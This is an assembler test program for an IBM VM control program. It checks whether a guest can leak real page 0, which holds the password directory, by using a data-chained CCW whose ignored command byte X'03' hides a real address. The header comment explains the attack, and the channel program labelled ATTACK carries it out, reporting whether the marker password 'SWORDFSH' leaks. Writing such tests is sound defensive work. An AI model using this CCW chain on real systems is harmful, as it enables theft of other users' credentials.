***********************************************************************
*  CHAIN03: a data-chained CCW whose own command byte is X'03'.       *
*                                                                     *
*  The attack.  With data chaining (flag X'80') the next CCW only     *
*  continues the data area of the operation in progress; the channel  *
*  ignores its command byte.  So                                      *
*     WRITE DATA  8 bytes from BUF2, chain data                       *
*     X'03'       4088 bytes from address 0                           *
*  writes one 4096-byte record: 8 bytes from BUF2, then 4088 bytes    *
*  from location 0 onwards.  A CP that translates CCWs by their own   *
*  command byte takes the second for a NO-OP, which moves no data,    *
*  and leaves its address alone - a REAL address: real page 0, where  *
*  CP keeps its directory with every user's password.  The guest      *
*  then reads the record back like any other.                         *
*                                                                     *
*  A correct CP translates a data-chained CCW as part of the          *
*  operation it continues (here: output from guest storage), so the   *
*  4088 bytes come from the guest's own page 0 - CMS's low storage.   *
*  (Refusing the program with a program check is correct too.)        *
*                                                                     *
*  Steps: format R1 on cylinder 0 head 0 with 4096 bytes of zeros;    *
*  the attack; read R1 back into BUF3 and look for BOB's password.    *
*  X'600D': not there.  X'BAD1': the password came with the record.   *
*  X'0E01', X'0E03': the formatting or the read back failed.          *
***********************************************************************
         COPY  GUEST
CHAIN03  START X'8000'
         BALR  R12,0
         USING *,R12
         L     R4,=A(BUF1)         the count field to write
         MVC   0(8,R4),COUNT
         LA    R1,FORMAT
         BAL   R14,DOIO
         BAL   R14,OKCSW
         BNZ   FAIL1
         L     R4,=A(BUF2)
         MVC   0(8,R4),=CL8'ALICE'
         LA    R1,ATTACK           whatever happens to it ...
         BAL   R14,DOIO
         LA    R1,READBACK         ... read the record back
         BAL   R14,DOIO
         BAL   R14,OKCSW
         BNZ   FAIL3
         LA    R3,MARKER
         L     R4,=A(BUF3)
         L     R5,=F'4096'
         BAL   R14,FIND
         BE    LEAKED
         LPSW  GOOD
LEAKED   LPSW  BAD1
FAIL1    LPSW  FAIL1PSW
FAIL3    LPSW  FAIL3PSW
         COPY  DOIO
FAIL1PSW DC    X'00020000',X'00000E01'
FAIL3PSW DC    X'00020000',X'00000E03'
FORMAT   CCW   X'07',SEEK,X'40',6          SEEK cylinder 0, head 0
         CCW   X'31',ID0,X'40',5           SEARCH ID EQUAL R0
         CCW   X'08',*-8,0,1
         CCW   X'1D',BUF1,0,8+4096         WRITE CKD: R1, 4096 bytes
ATTACK   CCW   X'07',SEEK,X'40',6
         CCW   X'31',ID1,X'40',5           SEARCH ID EQUAL R1
         CCW   X'08',*-8,0,1
         CCW   X'05',BUF2,X'80',8          WRITE DATA, chain data
         CCW   X'03',0,X'20',4088          ... the rest from 0
READBACK CCW   X'07',SEEK,X'40',6
         CCW   X'31',ID1,X'40',5
         CCW   X'08',*-8,0,1
         CCW   X'06',BUF3,X'20',4096       READ DATA
SEEK     DC    XL6'00'
ID0      DC    XL5'00'
ID1      DC    X'0000000001'
COUNT    DC    X'0000000001',X'00',AL2(4096)
MARKER   DC    C'SWORDFSH'                 BOB's password
         LTORG
         END
